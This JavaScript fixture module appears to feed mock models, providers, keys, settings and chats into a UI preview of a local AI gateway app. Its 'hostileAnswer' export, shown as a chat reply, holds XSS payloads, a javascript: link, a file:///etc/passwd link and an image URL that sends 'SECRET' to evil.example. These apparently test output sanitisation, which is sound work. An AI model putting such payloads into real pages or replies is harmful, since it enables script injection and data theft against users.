// What the preview's daemon knows: enough of everything to see every screen full.
import { traceId } from './ui-preview-traces.mjs'
import { day, hour, minute, now, priced, usage } from './ui-preview-values.mjs'

export const models = [
  ['openai/gpt-5.2', 'OpenAI', 400_000],
  ['openai/gpt-5.2-mini', 'OpenAI', 400_000],
  ['openrouter/anthropic/claude-sonnet-5', 'OpenRouter', 1_000_000],
  ['openrouter/google/gemini-3-flash', 'OpenRouter', 1_048_576],
  ['openrouter/qwen/qwen3-coder', 'OpenRouter', 262_144],
  ['on-device/qwen3-4b-q4_k_m', 'On this machine', 32_768]
].map(([id, providerName, contextTokens]) => {
  const slash = id.indexOf('/')
  const providerId = id.slice(0, slash)
  const onDevice = providerId === 'on-device'
  return {
    id,
    providerId,
    providerName,
    name: id.slice(slash + 1),
    onDevice,
    contextTokens,
    maxOutputTokens: null,
    priced: !id.includes('coder'),
    abilities: { tools: true, json: true, vision: !id.includes('qwen'), reasoning: id.includes('5') }
  }
})

export const providers = [
  {
    id: 'openai',
    kind: 'openai',
    name: 'OpenAI',
    baseUrl: 'https://api.openai.com/v1',
    hasKey: true,
    keyCount: 1,
    options: {},
    pricing: 'auto',
    models: ['gpt-5.2', 'gpt-5.2-mini'],
    createdAt: now - 20 * day,
    lastTest: { ok: true, at: now - 3 * hour, message: 'works', latencyMs: 412 }
  },
  {
    id: 'openrouter',
    kind: 'openrouter',
    name: 'OpenRouter',
    baseUrl: 'https://openrouter.ai/api/v1',
    hasKey: true,
    keyCount: 3,
    options: {},
    pricing: 'auto',
    models: ['anthropic/claude-sonnet-5', 'google/gemini-3-flash', 'qwen/qwen3-coder'],
    createdAt: now - 9 * day,
    lastTest: {
      ok: false,
      at: now - hour,
      message: 'The server answered 401: “No auth credentials found”. Check the key.',
      latencyMs: null
    }
  }
]

export const keys = [
  ['Continue (VS Code)', 'hp_7f3a', 12 * day, 20 * minute],
  ['Nightly notes digest', 'hp_c01e', 30 * day, 9 * hour],
  ['Scratch script', 'hp_e9b2', 2 * day, null]
].map(([name, prefix, age, used], index) => ({
  id: `k${index}`,
  name,
  prefix,
  createdAt: now - age,
  lastUsedAt: used === null ? null : now - used,
  revokedAt: null,
  pausedAt: null,
  limits: {
    requestsPerMinute: index === 0 ? 60 : null,
    tokensPerMinute: index === 0 ? 200_000 : null,
    onDeviceOnly: index === 1
  }
}))

export const telemetry = {
  receive: { port: 4318, problem: null },
  export: {
    url: 'https://cloud.langfuse.com/api/public/otel',
    headers: ['authorization'],
    waiting: 3,
    sent: 1204,
    dropped: 0,
    lastSentAt: now - 2 * minute,
    lastError: null
  }
}

export const settings = {
  appearance: 'system',
  defaultModel: 'openrouter/anthropic/claude-sonnet-5',
  quickPromptShortcut: 'CommandOrControl+Shift+Space',
  recordBodies: true,
  cache: { enabled: true, ttlSeconds: 86_400, maxMegabytes: 200 },
  onDevice: {
    memoryMegabytes: null,
    folders: ['/media/disk/models'],
    otherPrograms: true,
    mirrorUrl: null,
    parallelDownloads: 2
  },
  onboardingDone: true,
  retention: { bodyDays: 30, traceDays: 365, bodyMegabytes: 4096 },
  telemetry: {
    receive: true,
    receivePort: 4318,
    exportUrl: 'https://cloud.langfuse.com/api/public/otel',
    exportBodies: false,
    exportConventions: '1.41'
  }
}

export const info = (port) => ({
  version: '0.1.0',
  pid: 4242,
  port,
  dataDir: '/home/ada/.local/share/homeport',
  modelsDir: '/home/ada/.local/share/homeport/models',
  headless: true,
  paused: false,
  secrets: {
    backend: 'key-file',
    description:
      'Keys are in a file only your account can read. Anyone who can read your files can read them too.',
    keychainProblem: 'no Secret Service is running.'
  },
  notices: [],
  inferenceBackend: 'CUDA'
})

export const discovered = [
  {
    id: 'ollama',
    name: 'Ollama',
    baseUrl: 'http://127.0.0.1:11434/v1',
    models: ['qwen3:8b', 'gemma3:4b'],
    alreadyAdded: false
  }
]

export const answer = `Over ten years the **Nordvent 9** comes out lowest, about €1,400 below the next one, because it keeps its efficiency at the 50 °C flow your radiators need.

| Offer | Installed | Power, 10 y | Total |
|---|--:|--:|--:|
| **Nordvent 9** | **€14,900** | **€9,200** | **€24,100** |
| Aerlo Compact | €12,700 | €12,800 | €25,500 |
| Brisa 8S | €13,950 | €12,300 | €26,250 |

Two things could change this:

1. The Aerlo quote leaves out the hydraulic balancing that the others include.
2. You noted in March that the living room may get floor heating, which would favour the Brisa.

The comparison in three lines, with \`price\` per kWh as a parameter ([method](https://example.com/method)):

\`\`\`python
def total(installed: float, kwh: float, price: float = 0.31) -> float:
    """Ten years of power on top of the installation."""
    return installed + 10 * kwh * price
\`\`\``

export const hostileAnswer = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>

![a chart](https://evil.example/?d=SECRET) and ![inline](data:text/html,<script>alert(1)</script>)

[a safe link](https://example.com/) [click](javascript:window.__pwned=1) [file](file:///etc/passwd) [data](data:text/html,x)

<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><style>@import url(https://evil.example/x.css);body{display:none}</style>

\`\`\`html "><img src=x onerror=window.__pwned=1>
<img src=x onerror="window.__pwned=1">
\`\`\``

let number = 0
const id = (prefix) => `${prefix}-${String(++number).padStart(6, '0')}`

function message(chatId, parentId, role, text, extra = {}) {
  return {
    id: id('m'),
    chatId,
    parentId,
    role,
    text,
    reasoning: '',
    status: 'complete',
    error: null,
    info: null,
    createdAt: now - 2 * hour + number,
    ...extra
  }
}

const facts = (model, traceId, firstTokenMs, durationMs, tokens, cost) => ({
  info: { model, traceId, firstTokenMs, durationMs, usage: tokens, cost }
})

export function chats() {
  number = 0
  const all = new Map()
  const add = (title, age, build, model = 'openrouter/anthropic/claude-sonnet-5') => {
    const chatId = id('c')
    const messages = build(chatId)
    all.set(chatId, {
      id: chatId,
      title,
      model,
      createdAt: now - age,
      updatedAt: now - age,
      running: false,
      activeLeafId: messages.at(-1)?.id ?? null,
      messages
    })
  }
  add('Heat pump quotes compared', 2 * minute, (chatId) => {
    const q = message(
      chatId,
      null,
      'user',
      'Which of the three heat pump offers is cheapest over ten years, if I keep the old radiators?'
    )
    const old = message(
      chatId,
      q.id,
      'assistant',
      'The Aerlo Compact.',
      facts('openai/gpt-5.2-mini', traceId(3), 300, 900, usage(6102, 0, 20), priced(0.0008))
    )
    const good = message(chatId, q.id, 'assistant', answer, {
      reasoning: 'Three offers. Installed price plus ten years of power. The radiators need 50 °C.',
      ...facts(
        'openrouter/anthropic/claude-sonnet-5',
        traceId(0),
        610,
        4930,
        usage(6102, 5400, 318),
        priced(0.0113)
      )
    })
    return [q, old, good]
  })
  add('Rewrite the release notes', hour, (chatId) => {
    const q = message(chatId, null, 'user', 'Rewrite these release notes for people, not for us.')
    const a = message(chatId, q.id, 'assistant', '', {
      status: 'failed',
      error:
        'OpenRouter refused the call: “insufficient credits”. Add credits there, or choose another model.'
    })
    return [q, a]
  })
  add('Markdown from a stranger', 3 * hour, (chatId) => {
    const q = message(chatId, null, 'user', 'Summarise https://evil.example for me.')
    return [
      q,
      message(
        chatId,
        q.id,
        'assistant',
        hostileAnswer,
        facts('on-device/qwen3-4b-q4_k_m', traceId(4), 90, 1900, usage(80, 0, 60), { kind: 'free' })
      )
    ]
  })
  add('Lisbon in four days', 4 * day, (chatId) => {
    const q = message(chatId, null, 'user', 'Four days in Lisbon with a six-year-old?')
    return [
      q,
      message(chatId, q.id, 'assistant', 'Start in Alfama, before the', {
        status: 'stopped',
        ...facts('openai/gpt-5.2', traceId(1), 700, 1200, null, { kind: 'unknown' })
      })
    ]
  })
  add('Interview questions, backend', 5 * day, () => [])
  add('Two thousand messages', 40 * day, (chatId) => {
    const messages = []
    for (let turn = 0; turn < 1000; turn++) {
      const q = message(chatId, messages.at(-1)?.id ?? null, 'user', `Question ${turn + 1}: and then?`)
      const a = message(
        chatId,
        q.id,
        'assistant',
        turn % 7 === 0 ? answer : `Answer ${turn + 1}. ${'It goes on. '.repeat(turn % 23)}`
      )
      messages.push(q, a)
    }
    return messages
  })
  return all
}
